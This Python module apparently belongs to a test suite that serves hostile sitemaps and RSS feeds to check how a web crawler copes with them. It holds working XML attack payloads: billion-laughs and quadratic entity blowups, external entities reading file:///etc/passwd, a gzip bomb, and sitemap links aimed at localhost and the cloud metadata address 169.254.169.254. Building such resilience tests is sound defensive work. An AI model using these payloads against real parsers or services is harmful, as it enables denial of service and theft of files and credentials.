"""Faults of XML: sitemaps and feeds that grow, read files, or lead elsewhere."""

from __future__ import annotations

import gzip

from practice.hostile.encoding import zeros
from practice.hostile.fault import DONE, GONE, TOO_LARGE, TRAP, End, fault
from practice.hostile.visit import Visit

UNREAD = End(
    "failed|refused", r"xml|entit|sitemap|feed|doctype|dtd|pars|read|large|big|size|limit|bomb"
)
NOTED = End("done", problem=r"xml|entit|sitemap|feed|doctype|dtd|pars|read|large|big|size|limit")
QUIET = End("done", "")
XML = "application/xml"
_START = '<?xml version="1.0" encoding="utf-8"?>\n'
_SPACE = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'


def urlset(*addresses: str, before: str = "") -> str:
    """A sitemap of addresses; `before` stands in front of it."""
    urls = "".join(f"<url><loc>{each}</loc></url>" for each in addresses)
    return f"{_START}{before}<urlset {_SPACE}>{urls}</urlset>"


def index(*addresses: str) -> str:
    """A sitemap of sitemaps."""
    parts = "".join(f"<sitemap><loc>{each}</loc></sitemap>" for each in addresses)
    return f"{_START}<sitemapindex {_SPACE}>{parts}</sitemapindex>"


def feed(*items: str, before: str = "") -> str:
    """An RSS feed of items that are XML already."""
    return f'{_START}{before}<rss version="2.0"><channel>{"".join(items)}</channel></rss>'


def _item(title: str, link: str) -> str:
    return f"<item><title>{title}</title><link>{link}</link></item>"


def _laughs() -> str:
    steps = [f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)]
    return f'<!DOCTYPE x [<!ENTITY l0 "ha ha ha">{"".join(steps)}]>\n'


@fault(UNREAD, NOTED, QUIET, place="sitemap")
async def billion_laughs(visit: Visit) -> None:
    """A sitemap whose entities unfold to a billion laughs."""
    await visit.reply(urlset("&l9;", before=_laughs()), media_type=XML)


@fault(UNREAD, NOTED, QUIET, place="feed")
async def quadratic_blowup(visit: Visit) -> None:
    """A feed with one long entity, named fifty thousand times."""
    entity = f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]>'
    await visit.reply(feed(_item("&a;" * 50_000, "/"), before=entity), media_type=XML)


@fault(UNREAD, NOTED, QUIET, place="feed")
async def external_entities(visit: Visit) -> None:
    """A feed whose entities are files of the crawler's machine and pages of other hosts."""
    whereto = visit.site.canary("127.0.0.1")
    entities = (
        f'<!DOCTYPE x PUBLIC "x" "{whereto}x.dtd" [<!ENTITY f SYSTEM "file:///etc/passwd">'
        f'<!ENTITY c SYSTEM "{whereto}entity"><!ENTITY % p SYSTEM "{whereto}p"> %p;]>'
    )
    item = _item("&f;&c;", f"{visit.site.base}/doc?noi-dung=&f;")
    await visit.reply(feed(item, before=entities), media_type=XML)


@fault(QUIET, NOTED, place="sitemap")
async def foreign_inclusions(visit: Visit) -> None:
    """A sitemap with a style sheet and an inclusion from other hosts."""
    whereto = visit.site.canary("127.0.0.2")
    sheet = f'<?xml-stylesheet type="text/xsl" href="{whereto}x.xsl"?>'
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{whereto}i"/>'
    text = urlset(before=sheet).replace("</urlset>", include + "</urlset>")
    await visit.reply(text, media_type=XML)


@fault(QUIET, NOTED, place="sitemap")
async def foreign_sitemap(visit: Visit) -> None:
    """A sitemap that lists addresses of other hosts."""
    hosts = ("127.0.0.1", "127.0.0.2", "localhost", "[::1]", "2130706433")
    places = [f"{visit.site.canary(host)}tin.html" for host in hosts]
    places += ["file:///etc/passwd", "http://169.254.169.254/", visit.site.alias + "tin.html"]
    await visit.reply(urlset(*places), media_type=XML)


@fault(QUIET, NOTED, place="sitemap")
async def foreign_index(visit: Visit) -> None:
    """A sitemap of sitemaps of other hosts."""
    await visit.reply(index(visit.site.canary("127.0.0.2") + "sitemap.xml"), media_type=XML)


@fault(QUIET, NOTED, place="sitemap")
async def forbidden_sitemap(visit: Visit) -> None:
    """A sitemap that lists what robots.txt forbids."""
    place = visit.site.base + visit.site.forbidden_folder
    await visit.reply(urlset(*(f"{place}trang-{n}.html" for n in range(5))), media_type=XML)


@fault(QUIET, NOTED, UNREAD, place="tree", most=60, stopped=TRAP + r"|sitemap")
async def endless_sitemaps(visit: Visit) -> None:
    """A sitemap of sitemaps without end."""
    number = int("".join(filter(str.isdecimal, visit.rest)) or 0)
    places = [f"{visit.site.base}{visit.home}sitemap-{2 * number + n}.xml" for n in (1, 2)]
    await visit.reply(index(*places), media_type=XML)


@fault(QUIET, NOTED, place="sitemap", most=3)
async def sitemap_of_itself(visit: Visit) -> None:
    """A sitemap of sitemaps that lists itself."""
    await visit.reply(index(visit.site.base + visit.target), media_type=XML)


@fault(TOO_LARGE, UNREAD, NOTED, place="sitemap", ending=".xml.gz")
async def sitemap_bomb(visit: Visit) -> None:
    """A packed sitemap of one megabyte that unpacks to one gigabyte."""
    await visit.reply(zeros(1024), media_type="application/gzip")


@fault(QUIET, place="sitemap", ending=".xml.gz", neighbours=2)
async def packed_sitemap(visit: Visit) -> None:
    """A packed sitemap of ordinary size."""
    own = visit.site.neighbours_of(visit.kind)
    places = [visit.site.base + visit.site.path_of_article(k) for k in own]
    await visit.reply(
        gzip.compress(urlset(*places).encode(), mtime=0), media_type="application/gzip"
    )


@fault(QUIET, NOTED, UNREAD, GONE, place="sitemap")
async def page_for_sitemap(visit: Visit) -> None:
    """A web page where the sitemap should be."""
    await visit.page("Lỗi", "<h1>Không tìm thấy trang</h1>")


@fault(QUIET, NOTED, UNREAD, place="sitemap", neighbours=1)
async def broken_sitemap(visit: Visit) -> None:
    """A sitemap that breaks off in the middle of a tag."""
    place = visit.site.path_of_article(visit.site.neighbours_of(visit.kind)[0])
    text = urlset(visit.site.base + place)
    await visit.reply(text.replace("</urlset>", "<url><loc>http://12"), media_type=XML)


@fault(DONE, NOTED, place="feed", neighbours=1)
async def broken_feed(visit: Visit) -> None:
    """A feed with raw ampersands, control letters and HTML inside."""
    place = visit.site.path_of_article(visit.site.neighbours_of(visit.kind)[0])
    good = _item("Tin & bài \x0b <b>mới", visit.site.base + place)
    await visit.reply(feed(good.replace("<b>", "&nbsp;<br>")), media_type="text/xml")


@fault(QUIET, NOTED, UNREAD, place="feed")
async def nested_xml(visit: Visit) -> None:
    """A hundred thousand elements of XML, one inside the other."""
    await visit.reply(feed("<a>" * 100_000), media_type=XML)
